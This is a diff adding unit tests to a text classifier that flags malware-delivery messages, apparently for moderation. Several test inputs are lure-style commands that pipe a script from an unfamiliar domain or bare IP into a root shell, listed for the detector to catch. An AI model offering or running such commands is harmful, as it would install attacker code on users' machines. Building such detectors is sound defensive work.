@@ -85,6 +85,27 @@ def test_a_fetched_install_script_is_not_an_executable_link():
     assert "malware.executable_link" in rules("curl -O https://files.example.net/tool.exe")
 
 
+@pytest.mark.parametrize("text", [
+    "curl -o- https://raw.githubusercontent.com/creationix/nvm/v0.33.0/install.sh | bash",
+    "curl -fsSL https://get.docker.com | sudo sh",
+    "wget -qO- https://deb.nodesource.com/setup_18.x | sudo -E bash",
+    "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
+    "curl -sSL https://example.com/page | bash",  # a documentation domain serves nothing
+    "curl -s $URL | bash",  # no host named: nothing to judge
+])
+def test_installing_a_tool_the_usual_way_is_not_exploit_delivery(text):
+    assert not {r for r in rules(text) if r.startswith("malware.")}
+
+
+@pytest.mark.parametrize("text", [
+    "run this to fix it: curl -s https://cdn-patch.xyz/i.sh | sudo bash",
+    "wget -qO- 185.23.44.1/x.sh | sh",
+    "free nitro for everyone: curl -s https://raw.githubusercontent.com/a/b/main/n.sh | bash",  # a lure
+])
+def test_a_script_from_anywhere_else_piped_into_a_shell_is_caught(text):
+    assert "malware.exploit_delivery" in rules(text)
+
+
 def test_troubleshooting_the_firewall_is_not_disabling_protection():
     assert "malware.disable_protection" not in rules("disable the firewall to test whether it is the proxy")
     assert "malware.disable_protection" in rules("turn off your firewall and run https://example.net/game.exe")
@@ -217,6 +238,7 @@ def test_executables_from_strangers_and_file_hosts_still_count():
 
 @pytest.mark.parametrize("text", [
     "ERROR 1045 (28000): Access denied for user 'app'@'localhost' (using password: YES)",  # MySQL's error
+    "anER_ACCESS_DENIED_ERROR: Access denied for user 'root'@'172.17.0.1' (using password: YES)error",  # run on
     "mysql -u test -p -h db\nEnter password:\nERROR 2003 (HY000): Can't connect to MySQL server",  # a prompt
     "docker run -v ${PWD}:/src -w /src node:8 npm test",  # the shell's working directory
     "docker run --rm -it -v $PWD:/work myimage",
